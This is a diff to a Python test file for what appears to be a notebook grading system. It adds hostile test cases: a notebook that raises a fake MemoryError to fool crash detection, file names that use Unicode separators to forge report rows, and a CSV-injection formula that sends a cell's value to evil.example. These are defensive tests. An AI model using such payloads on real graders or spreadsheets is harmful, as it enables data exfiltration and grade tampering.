@@ -137,6 +137,9 @@ def attacks(targets: list[str], port: int) -> dict[str, tuple[nbformat.NotebookN
                         reparameterize_fails("crashed: SystemExit")),
         "memory.ipynb": (reparameterize_variant(f"bytearray(9 * 2 ** 30)\n{RIGHT}"),
                          reparameterize_fails("crashed: MemoryError")),
+        "fake_memory.ipynb": (reparameterize_variant(  # a class that calls itself MemoryError
+            "raise type('MemoryError', (Exception,), {'__module__': 'builtins'})()"),
+            reparameterize_fails(submission_run.OTHER)),
         "escape.ipynb": (reparameterize_variant(write + RIGHT), {}),
         "network.ipynb": (reparameterize_variant(connect + RIGHT), {}),
     }
@@ -406,6 +409,23 @@ def test_file_names_are_shown_on_one_line() -> None:
     """Control characters in a name become '?', and a long name is cut."""
     assert grade_report.printable("a\nb\x1b[32mc\u202e") == "a?b?[32mc?"
     assert len(grade_report.printable("x" * 500)) == grade_report.NAME_CHARS
+
+
+def test_no_name_forges_a_row_or_a_formula(tmp_path: Path) -> None:
+    """A name with Unicode line separators or wide gaps stays one cell of one line (as the
+    tests' own row parser reads it), and a name that looks like a formula is text in a
+    spreadsheet."""
+    forged = "me.ipynb\u2028alice.ipynb          7.9      OK   OK   OK\u2029.ipynb"
+    shown = grade_report.printable(forged)
+    assert shown.splitlines() == [shown] and "\u2028" not in shown
+    assert list(printed_rows(f"{shown}  4.2  OK  TODO left  OK")) == [shown]
+    assert grade_report.printable("my notebook\u3000\u00a0.ipynb") == "my notebook??.ipynb"
+    formula = '=HYPERLINK("http://evil.example?"&A2,"grades").ipynb'
+    rows = [grade_report.Row(grade_report.printable(formula), status="not an exercise notebook")]
+    grade_report.write_csv(tmp_path / "grades.csv", rows, [])
+    with open(tmp_path / "grades.csv", newline="") as f:
+        [row] = list(csv.DictReader(f))
+    assert row["submission"] == "'" + formula
 
 
 def test_an_exercise_defined_check_keeps_its_own_code_and_labels(tmp_path: Path,
